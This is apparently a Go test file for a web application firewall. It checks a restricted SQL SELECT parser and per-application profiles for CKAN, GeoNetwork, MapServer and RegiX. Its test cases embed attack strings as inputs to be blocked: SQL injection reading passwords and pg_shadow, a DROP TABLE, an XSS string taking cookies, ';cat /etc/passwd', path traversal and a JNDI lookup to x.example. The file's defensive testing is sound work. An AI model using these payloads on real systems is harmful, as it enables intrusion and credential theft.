package waf

import (
	"net/url"
	"slices"
	"strings"
	"testing"
)

// TestSelects: one SELECT over tables that are allowed is understood; anything
// that does more, or that can be read in another way, is not.
func TestSelects(t *testing.T) {
	t.Parallel()
	const table = `"6f625929-dbe5-4154-adc0-a5582a0c6f96"`
	allowed := func(name string) bool {
		_, ok := uuids(name)
		return ok || name == "schools"
	}
	for _, s := range []string{
		`SELECT * FROM ` + table, `select a, "b" from schools s where s.a = 'x''y' and b in (1, 2.5) order by 1 desc limit 5`, `SELECT count(*) FROM ` + table + ` a JOIN public.schools b ON a.x=b.y, ` + table + ` c WHERE a.z IS NOT NULL`,
		`SELECT extract(year from "ts"::timestamp) FROM ` + table + ` GROUP BY 1 HAVING count(*) > 1`, `SELECT x FROM (SELECT * FROM ` + table + `) q WHERE x BETWEEN 1 AND 2`, `SELECT a FROM schools WHERE b = (SELECT max(b) FROM schools)`, `SELECT DISTINCT "вид" FROM ` + table + ` WHERE a IS DISTINCT FROM b`,
	} {
		if _, ok := selects(s, allowed); !ok {
			t.Errorf("%s is not understood", s)
		}
	}
	for _, s := range []string{
		``, `SELECT`, `SELECT 1`, `SELECT * FROM users`, `SELECT * FROM schools, users`, `SELECT * FROM schools JOIN users ON 1=1`, `SELECT * FROM schools a JOIN schools b ON a.x = b.x, pg_user`, `SELECT * FROM schools; SELECT 1`, `SELECT * FROM schools -- x`, `SELECT * FROM schools /* x */`,
		`SELECT * FROM schools UNION SELECT * FROM schools`, `SELECT pg_sleep(5) FROM schools`, `SELECT "pg_sleep"(5) FROM schools`, `SELECT version() FROM schools`, `SELECT current_user FROM schools`, `SELECT * FROM schools.users`, `SELECT * FROM public.users`, `SELECT * FROM "users"`,
		`SELECT (SELECT x FROM users) FROM schools`, `SELECT * FROM schools WHERE x = (SELECT a FROM users)`, `SELECT * FROM schools WHERE EXISTS (SELECT 1 FROM information_schema.tables)`, `SELECT 'a\' FROM users`, `SELECT $$x$$ FROM schools`, `SELECT x FROM schools INTO OUTFILE 'a'`,
		`DELETE FROM schools`, `WITH a AS (DELETE FROM schools) SELECT * FROM a`, `SELECT * FROM generate_series(1,100000)`, `SELECT 'pg_shadow'::regclass FROM schools`, `SELECT * FROM (users)`, `SELECT * FROM schools WHERE (a`, `SELECT * FROM schools)`, `SELECT * FROM schools,`, "SELECT * FROM `schools`", `SELECT 0x41 FROM schools`, "SELECT \xff FROM schools",
		`SELECT extract(year from (select a from users)) FROM schools`, `SELECT * FROM schools FOR UPDATE`, `SELECT U&"\0061" FROM schools`, `SELECT cast('a' as regproc) FROM schools`, `SELECT * FROM schools WHERE substring(a from x) in (select b from users)`, strings.Repeat("(", 50), `SELECT a FROM schools ` + strings.Repeat("x ", 8000),
	} {
		if _, ok := selects(s, allowed); ok {
			t.Errorf("%s is understood", s)
		}
	}
}

func FuzzSelects(f *testing.F) {
	f.Add(`SELECT extract(year from (select "a" from x)) FROM x a JOIN x b ON a.b='c' GROUP BY 1`)
	f.Add(`(<Filter/>)(<Filter/>)`)
	f.Fuzz(func(t *testing.T, s string) {
		texts, ok := selects(s, func(n string) bool { return n == "x" })
		if ok && (strings.ContainsAny(s, ";\\`$#@&") && !strings.ContainsAny(strings.Join(texts, ""), ";`$#@&") || !strings.Contains(strings.ToLower(s), "select")) {
			t.Errorf("%q %q", s, texts)
		}
		cql(s)
		lucene(s)
		document(s)
		filterList(s)
		link(s)
		aFilter.inValue(s)
	})
}

// TestProfilesFindAttacks: a profile lets nothing pass that is not what it knows,
// and what stands in the texts of what it knows is found.
func TestProfilesFindAttacks(t *testing.T) {
	t.Parallel()
	rs := testRuleset(t, Settings{Paranoia: 1})
	const (
		sqli = "x' or '1'='1' union select password from users--"
		xss  = "<script>alert(document.cookie)</script>"
		id   = `"6f625929-dbe5-4154-adc0-a5582a0c6f96"`
	)
	filter := func(literal string) string {
		return `<ogc:Filter xmlns:ogc="http://www.opengis.net/ogc"><ogc:PropertyIsEqualTo><ogc:PropertyName>a</ogc:PropertyName><ogc:Literal>` + literal + `</ogc:Literal></ogc:PropertyIsEqualTo></ogc:Filter>`
	}
	escape := strings.NewReplacer("<", "&lt;", "&", "&amp;", "'", "&#39;").Replace
	q := func(name, value string) *Request { return testRequest("/a?"+name+"="+url.QueryEscape(value), "", "") }
	doc := func(s string) *Request { return testRequest("/a", "application/xml", s) }
	for _, tt := range []struct {
		app, name string
		r         *Request
		block     bool
	}{
		{"ckan", "a question", q("sql", `SELECT * FROM `+id+` WHERE a = 'б' AND CASE WHEN 1=1 THEN true END`), false},
		{"ckan", "another table", q("sql", `SELECT usename, passwd FROM pg_shadow WHERE 1=1 UNION SELECT 1,2`), true},
		{"ckan", "sleep", q("sql", `SELECT pg_sleep(10) FROM `+id), true},
		{"ckan", "two statements", q("sql", `SELECT * FROM `+id+`; DROP TABLE users--`), true},
		{"ckan", "a script in a text", q("sql", `SELECT * FROM `+id+` WHERE a = '`+xss+`'`), true},
		{"ckan", "a command in a text", q("sql", `SELECT * FROM `+id+` WHERE a = ';cat /etc/passwd'`), true},
		{"ckan", "SQL elsewhere", q("q", sqli), true},
		{"ckan", "SQL in JSON", testRequest("/a", "application/json", `{"sql":"SELECT 1 FROM users UNION SELECT password FROM users"}`), true},
		{"ckan", "a script in a record", testRequest("/a", "application/json", `{"records":[{"a":"`+xss+`"}]}`), true},
		{"ckan", "a script in JSON in JSON", q("filters", `{"a":["`+xss+`"]}`), true},
		{"ckan", "a name in JSON", q("filters", `{"`+xss+`":1}`), true},
		{"geonetwork", "a filter", q("CONSTRAINT", filter("%вод%")), false},
		{"geonetwork", "SQL in a literal", q("CONSTRAINT", filter(escape(sqli))), true},
		{"geonetwork", "a function in a filter", q("CONSTRAINT", strings.ReplaceAll(filter("a"), "PropertyName", "Function")), true},
		{"geonetwork", "SQL in CQL", q("constraint", "a = 'b' or 1=1 union select password from users"), true},
		{"geonetwork", "SQL in a text of CQL", q("constraint", "a = '"+strings.ReplaceAll(sqli, "'", "''")+"'"), true},
		{"geonetwork", "an expression in a question", testRequest("/a", "application/json", `{"query":{"query_string":{"query":"any:${jndi:ldap://x.example/a}"}}}`), true},
		{"geonetwork", "SQL in metadata", doc(`<gmd:MD_Metadata xmlns:gmd="http://www.isotc211.org/2005/gmd"><gmd:abstract>` + escape(sqli) + `</gmd:abstract></gmd:MD_Metadata>`), true},
		{"geonetwork", "an expression in an attribute", doc(`<gmd:MD_Metadata xmlns:gmd="http://www.isotc211.org/2005/gmd" a="${jndi:ldap://x.example/a}"/>`), true},
		{"mapserver", "a filter", q("FILTER", "("+filter("1")+")("+filter("2")+")"), false},
		{"mapserver", "a script as a filter", q("FILTER", "<Filter>"+xss+"</Filter>"), true},
		{"mapserver", "a script as a layer", q("LAYERS", xss), true},
		{"mapserver", "SQL in a box", q("BBOX", "1,2,3,4 or 1=1 union select password from users--"), true},
		{"mapserver", "another map file", q("map", "/srv/maps/../../etc/passwd"), true},
		{"mapserver", "SQL in a literal", doc(`<wfs:GetFeature xmlns:wfs="http://www.opengis.net/wfs"><wfs:Query typeName="a">` + filter(escape(sqli)) + `</wfs:Query></wfs:GetFeature>`), true},
		{"mapserver", "an unknown root", doc(`<a xmlns="http://www.opengis.net/wfs">` + escape(xss) + `</a>`), true},
		{"regix", "SQL in a name", doc(`<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><ExecuteSynchronous xmlns="http://tempuri.org/"><request><Argument><A xmlns="http://egov.bg/RegiX/A"><Name>` + escape(sqli) + `</Name></A></Argument></request></ExecuteSynchronous></s:Body></s:Envelope>`), true},
		{"regix", "a script in a certificate", doc(`<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Header><BinarySecurityToken xmlns="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">` + escape(xss) + `</BinarySecurityToken></s:Header></s:Envelope>`), true},
	} {
		tt.r.Profile = NewProfile(tt.app, nil)
		v, err := rs.run(tt.r, rs.screened)
		if v.Block != tt.block || err != nil {
			t.Errorf("%s, %s: blocked %v, want %v; %v %v %v", tt.app, tt.name, v.Block, tt.block, v.Rules, v.Matches, err)
		}
		same(t, rs, tt.r)
	}
}

// TestProfiles: there is one for each application that can be named.
func TestProfiles(t *testing.T) {
	t.Parallel()
	for _, app := range Apps() {
		if NewProfile(app, nil) == nil {
			t.Errorf("no profile for %s", app)
		}
	}
	if NewProfile("wordpress", nil) != nil {
		t.Error("a profile for what there is none for")
	}
	rs := testRuleset(t, Settings{Paranoia: 4})
	for _, id := range fragments {
		if r := rs.rules[id]; r == nil || !slices.Contains([]int{2, 3, 4}, levelOf(r.Tags())) {
			t.Errorf("rule %d is none of paranoia 2 to 4", id)
		}
	}
}
